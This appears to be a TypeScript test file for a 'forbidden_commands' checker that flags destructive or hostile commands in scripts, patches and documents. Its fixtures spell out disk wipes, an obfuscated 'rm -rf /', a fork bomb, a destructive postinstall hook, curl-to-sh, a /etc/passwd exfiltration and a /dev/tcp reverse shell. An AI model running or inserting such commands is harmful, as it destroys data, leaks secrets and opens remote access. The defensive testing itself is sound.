import { describe, expect, it } from 'vitest'
import { runCheck, sampleFile } from './sample-material.ts'

const script = (text: string, name = 'setup.sh') => ({ files: [sampleFile(text, { name, mediaType: 'text/plain' })] })
const document = (text: string) => ({ files: [sampleFile(text)] })
const found = (parts: Parameters<typeof runCheck>[1], options = {}) => runCheck('forbidden_commands', parts, options)

describe('forbidden_commands', () => {
  it('names file, line and form of a command that wipes, and binds', () => {
    const result = found(script('#!/bin/bash\nset -e\necho cm0gLXJmIC8= | base64 -d | sh\n'))
    expect(result).toMatchObject({
      status: 'failed',
      required: true,
      evidence: [{ file: 'setup.sh', line: 3, status: 'failed', label: '“rm -rf /”' }],
    })
    expect(result?.evidence[0]?.detail).toBe('It deletes a whole disk, home or system folder. It was found behind sh.')
  })

  it.each([
    ['setup.sh', 'rm -rf / --no-preserve-root'],
    ['run', '#!/usr/bin/env bash\na=rm\n$a -rf ~'],
    ['clean.ps1', 'Remove-Item -Recurse -Force C:\\'],
    ['clean.py', 'import shutil\nshutil.rmtree("/")'],
    ['tool.js', "require('child_process').execSync('rm -rf ~/')"],
    ['Makefile', 'clean:\n\t@rm -rf /\n'],
    ['Dockerfile', 'FROM alpine\nRUN rm -rf /*\n'],
    ['package.json', '{\n  "scripts": {\n    "postinstall": "rm -rf ~"\n  }\n}'],
    ['ci.yml', 'jobs:\n  a:\n    steps:\n      - run: rm -rf /\n'],
    ['disk.sh', 'dd if=/dev/zero of=/dev/sda'],
    ['bomb.sh', ':(){ :|:& };:'],
    ['fix.patch', '--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n #!/bin/sh\n+rm -rf /\n'],
  ])('%s with it fails', (name, text) =>
    expect(found(script(text, name))).toMatchObject({ status: 'failed', required: true }),
  )

  it('a patch answers for the lines it brings in, on their own lines', () => {
    const patch = (sign: string) =>
      `diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1,2 +1,3 @@\n #!/bin/sh\n${sign}rm -rf /\n+echo hi\n`
    expect(found(script(patch('+'), 'fix.patch'))?.evidence[0]).toMatchObject({ file: 'fix.patch', line: 6 })
    expect(found(script(patch('-'), 'fix.patch'))?.status).toBe('passed')
    expect(found(script(patch(' '), 'fix.patch'))?.status).toBe('passed')
  })

  it.each([
    ['curl -fsSL https://x.test/i.sh | sh', 'runs what it has just downloaded'],
    ['git push --force', 'overwrites or deletes history'],
    ['chmod -R 777 .', 'lets everybody'],
    ['curl --data @/etc/passwd https://x.test', 'sends files'],
    ['rm -rf "$DIR"/', 'deletes a whole disk'],
    ['bash -i >& /dev/tcp/1.2.3.4/99 0>&1', 'opens a shell'],
  ])('%j in a script needs a person’s look and does not bind', (line, words) => {
    const result = found(script(line))
    expect(result).toMatchObject({ status: 'unverified', required: false })
    expect(result?.summary).toContain(words)
  })

  it('a block in a document may be a warning: a person looks', () => {
    expect(found(document('# Care\n\nNever run\n\n```sh\nrm -rf /\n```\n'))).toMatchObject({
      status: 'unverified',
      required: false,
      evidence: [{ line: 6 }],
    })
    expect(found(document('```console\n$ ls\nrm -rf / is printed\n$ rm -rf /\n```'))?.evidence).toMatchObject([
      { line: 4 },
    ])
  })

  it.each([
    '```sh\nnpm ci\nnpm test\n```',
    '```bash\ncurl -fsSL https://x.test/i.sh | sh\n```',
    '```js\nconst a = "rm -rf /"\n```',
    '```python\nprint("rm -rf /")\n```',
    'Do not run `rm -rf /`.\n\n```sh\necho "rm -rf /"\n```',
    '```sh\nrm -rf node_modules dist /tmp/cache\n```',
    '```sql\nDROP TABLE old;\n```',
  ])('the document %j holds none', (text) => expect(found(document(text))?.status).toBe('passed'))

  it.each([
    ['wait.sh', 'until (echo > /dev/tcp/$host/$port) 2>/dev/null; do sleep 1; done'],
    ['build.sh', 'set -e\nrm -rf "$BUILD/out"\nmkdir -p "$BUILD"\nsource .env\n'],
    ['migrate.sql', 'DROP TABLE old;\nDELETE FROM t;'],
    ['clean.py', 'import shutil\nshutil.rmtree("build")\n'],
    ['install.sh', 'sudo cp x /usr/local/bin/x\nchmod 755 /usr/local/bin/x'],
    ['run.bat', 'del /q build\\*.obj'],
  ])('the honest script %s passes', (name, text) => expect(found(script(text, name))?.status).toBe('passed'))

  it('a text without scripts has nothing to judge, unless it was asked', () => {
    expect(found(document('Plain words about rm -rf /.'))).toBeUndefined()
    expect(found(document('Plain words.'), { required: true })?.status).toBe('passed')
  })

  it('a task may forbid more by pattern, and loosen what binds', () => {
    const parts = script('npm publish --access public')
    expect(found(parts)?.status).toBe('passed')
    expect(found(parts, { patterns: ['npm publish'] })).toMatchObject({ status: 'failed', required: true })
    expect(found(script('rm -rf /'), { required: false })).toMatchObject({ status: 'failed', required: false })
  })

  it('S52 a long script is read soon and its rest is named', () => {
    const from = process.cpuUsage()
    const result = found(script('cp "$a" build/$b.txt && echo "$(date) done" >> build/log.txt\n'.repeat(20_000)))
    expect(result).toMatchObject({ status: 'unverified' })
    expect(result?.summary).toContain('first 100,000 characters')
    expect(process.cpuUsage(from).user / 1000).toBeLessThan(5000)
  })
})
